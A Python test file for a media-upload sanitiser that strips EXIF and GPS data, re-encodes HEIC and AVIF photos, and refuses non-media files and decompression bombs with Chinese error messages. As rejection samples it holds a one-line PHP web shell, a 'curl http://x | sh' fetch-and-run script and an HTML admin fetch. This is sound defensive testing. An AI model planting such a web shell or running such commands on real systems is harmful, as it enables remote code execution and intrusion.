"""Files are judged by real parsers: HEIC/AVIF are photos, a video is a container that
parses, anything else is refused in Chinese; bombs are refused from the header."""

import io

import pytest
from PIL import Image

from chenbao.tips import media
from chenbao.tips.media import Limits, MediaError, clean, clean_all
from tests.tips import mediafiles

PLANTED = mediafiles.PLANTED


def test_jpeg_loses_exif_and_gps(photo):
    assert b"SecretCam" in photo
    cleaned = clean(photo)
    assert cleaned.kind == "image" and cleaned.ext == ".jpg"
    assert b"SecretCam" not in cleaned.data and b"Exif" not in cleaned.data
    with Image.open(io.BytesIO(cleaned.data)) as img:
        assert not img.getexif()
        assert img.size == (64, 48)


def test_a_script_named_like_a_photo_is_refused():
    with pytest.raises(MediaError):
        clean(b"<?php system($_GET['c']); ?>")


@pytest.mark.parametrize("name", ["heic", "avif"])
def test_heic_and_avif_photos_are_re_encoded_without_their_gps(name):
    """Issue 13, item 1: an `ftyp` box made a HEIC/AVIF photo a video, kept byte for byte."""
    data = mediafiles.PHOTOS[name]()
    assert all(planted in data for planted in PLANTED)
    assert media.kind_of(data) == "image"
    cleaned = clean(data)
    assert (cleaned.kind, cleaned.ext, cleaned.content_type) == ("image", ".jpg", "image/jpeg")
    assert not [p for p in PLANTED if p in cleaned.data]
    with Image.open(io.BytesIO(cleaned.data)) as img:
        assert img.format == "JPEG" and img.size == (64, 48) and not img.getexif()


def test_a_real_mp4_is_a_video_and_a_header_alone_is_not(tmp_path):
    real = mediafiles.ffmpeg_video(tmp_path, "mp4")
    assert media.kind_of(real) == "video"
    assert clean(real).ext == ".mp4"
    header_only = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00" * 64
    with pytest.raises(MediaError, match="视频文件已损坏或格式不支持"):
        clean(header_only)


@pytest.mark.parametrize(
    "data",
    [
        b"<!DOCTYPE html><html><script>fetch('/admin/')</script></html>",
        b"#!/bin/sh\ncurl http://x | sh\n",
        b"\x00" * 20_000,
        b"\x1a\x45\xdf\xa3" + b"\x00" * 100,  # an EBML magic and nothing behind it
        b"GIF89a" + b"\x00" * 10,
    ],
    ids=["html", "script", "zeros", "ebml-magic", "gif-magic"],
)
def test_anything_else_is_refused_with_a_chinese_message(data):
    with pytest.raises(MediaError, match="第 1 个文件：.*(无法识别|已损坏)"):
        clean(data)


def test_a_bomb_is_refused_from_its_header_without_decoding(monkeypatch):
    """Issue 13, item 3: a 7 KB 1-bit PNG of 7700×7700 (59 Mpx) was decoded (1.3 s, 300 MB)."""
    bomb = mediafiles.bilevel_png(7700, 7700)
    assert len(bomb) < 10_000
    decoded = []
    monkeypatch.setattr(Image.Image, "load", lambda self: decoded.append(self) or None)
    with pytest.raises(MediaError, match="图片尺寸过大（最多 50 百万像素）"):
        clean_all([bomb] * 9)
    assert decoded == []


def test_the_photos_of_one_request_share_a_pixel_budget(monkeypatch):
    four = [mediafiles.bilevel_png(6000, 6000)] * 4  # 36 Mpx each: each fits, together not
    decoded = []
    monkeypatch.setattr(Image.Image, "load", lambda self: decoded.append(self) or None)
    with pytest.raises(MediaError, match="总像素太多（最多 100 百万像素）"):
        clean_all(four, Limits(image_pixels=50_000_000, request_pixels=100_000_000))
    assert decoded == []


def test_every_file_is_checked_before_any_is_decoded(monkeypatch):
    files = [mediafiles.jpeg(), b"<html>"]
    decoded = []
    monkeypatch.setattr(Image.Image, "load", lambda self: decoded.append(self) or None)
    with pytest.raises(MediaError, match="第 2 个文件"):
        clean_all(files)
    assert decoded == []
